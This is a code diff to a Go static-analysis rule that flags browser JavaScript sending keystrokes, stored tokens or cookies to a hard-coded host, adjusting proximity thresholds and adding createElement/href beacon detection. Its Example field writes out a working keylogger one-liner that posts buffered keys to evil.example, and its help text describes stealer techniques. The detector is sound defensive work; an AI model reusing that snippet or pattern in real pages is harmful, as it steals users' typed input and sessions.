@@ -20,12 +20,13 @@ type PageExfil struct{}
 // Meta implements analyze.Rule.
 func (PageExfil) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/page-exfil", Version: 2, Title: "Sends what users type or store to a hard-coded host",
+		ID: "browser/page-exfil", Version: 3, Title: "Sends what users type or store to a hard-coded host",
 		Help: "Browser code sends page data to a constant URL on a host that is neither local nor a known CDN or registry: keystrokes " +
 			"buffered by a keydown/keypress/keyup listener on the page (a keylogger; a shortcut handler compares keys, it does not keep " +
 			"them), the whole of localStorage or sessionStorage enumerated (session tokens and wallet state; a storage library reads its " +
 			"own keys), or the bodies of requests a service worker intercepts in its fetch handler. In a multi-megabyte bundle the pieces " +
-			"must sit close together. A whole store enumerated by a file (not a bundle) that also reads document.cookie is critical: " +
+			"must sit close together, and so in any file over 64 KiB (within 2,000 bytes). A whole store enumerated by a file (not a " +
+			"bundle) that also reads document.cookie is critical: " +
 			"the sessions of every user of the site.",
 		Remediation:     "Remove the package from any site build, rotate the sessions and tokens of users who loaded it, and check which builds shipped it.",
 		Example:         `document.addEventListener("keydown", e => buf.push(e.key)); setInterval(() => fetch("https://evil.example/k", { method: "POST", body: buf.join("") }), 5000)`,
@@ -44,7 +45,11 @@ func (PageExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporte
 			continue
 		}
 		near := func(p jsast.Pos) bool {
-			return !f.Facts.Bundle() || rulekit.Near(p, []jsast.Pos{destPos})
+			// past 64 KiB a file is a library's modules concatenated
+			// (walletconnect's storage wrapper lists its keys; its
+			// requests go elsewhere in the file): an injected stealer
+			// keeps its pieces together
+			return f.Facts.Size <= 64<<10 || rulekit.Near(p, []jsast.Pos{destPos})
 		}
 		what, at := "", jsast.Pos{}
 		if p, ok := keylogger(f.Facts); ok && near(p) {
@@ -71,8 +76,9 @@ func (PageExfil) Check(ctx context.Context, t *analyze.Target, r analyze.Reporte
 // externalDest returns the external URL the file sends to: a constant
 // (or the constant start of a template) handed to fetch, sendBeacon, a
 // WebSocket, an HTTP client or XMLHttpRequest's open, on a host that is
-// not local and not trusted for t; or, with new Image() and an
-// assignment to its src, a constant URL next to the Image. A URL merely written
+// not local and not trusted for t; or, with new Image() (or an element
+// made with document.createElement) and an assignment to a src or href, a
+// constant URL next to it. A URL merely written
 // in the file (a docs link in an error message) is not a destination. It
 // also returns where the destination is and the source line there.
 func externalDest(t *analyze.Target, f *jsast.Facts) (string, jsast.Pos, string) {
@@ -84,7 +90,9 @@ func externalDest(t *analyze.Target, f *jsast.Facts) (string, jsast.Pos, string)
 			a = &c.Args[0]
 		case rulekit.Last(c.Callee) == "open" && len(c.Args) > 1 && c.Args[0].Known && httpMethods[strings.ToUpper(c.Args[0].Value)]:
 			a = &c.Args[1]
-		case c.Callee == "Image":
+		case c.Callee == "Image" || c.Callee == "document.createElement" && len(c.Args) > 0 && loadingElement[strings.ToLower(c.Args[0].Value)]:
+			// an image, or an element made to load a URL (a prefetch
+			// link; an <a> only links)
 			images = append(images, c.Pos)
 		}
 		if a == nil {
@@ -94,7 +102,20 @@ func externalDest(t *analyze.Target, f *jsast.Facts) (string, jsast.Pos, string)
 			return u, c.Pos, c.Snippet.String()
 		}
 	}
-	if len(images) > 0 && slices.ContainsFunc(f.Assigns, func(a jsast.Assign) bool { return strings.HasSuffix(a.Target, ".src") }) {
+	if len(images) == 0 {
+		return "", jsast.Pos{}, ""
+	}
+	for _, a := range f.Assigns {
+		// img.src = "https://…/p.gif?d=" + data: the URL as assigned
+		if (strings.HasSuffix(a.Target, ".src") || strings.HasSuffix(a.Target, ".href")) && a.Value != "" {
+			if u := rulekit.ExternalURL(t, a.Value); u != "" {
+				return u, a.Pos, a.Snippet.String()
+			}
+		}
+	}
+	if slices.ContainsFunc(f.Assigns, func(a jsast.Assign) bool {
+		return strings.HasSuffix(a.Target, ".src") || strings.HasSuffix(a.Target, ".href")
+	}) {
 		for _, s := range f.Strings {
 			if u := rulekit.ExternalURL(t, s.Value); u != "" && !s.Printed && !s.FromFile && rulekit.Near(s.Pos, images) {
 				return u, s.Pos, s.Snippet.String()
@@ -103,6 +124,10 @@ func externalDest(t *analyze.Target, f *jsast.Facts) (string, jsast.Pos, string)
 	}
 	return "", jsast.Pos{}, ""
 }
+
+// loadingElement are the elements that request their src or href as
+// soon as it is set.
+var loadingElement = map[string]bool{"img": true, "script": true, "iframe": true, "link": true}
 
 var httpMethods = map[string]bool{"GET": true, "POST": true, "PUT": true, "PATCH": true}
 
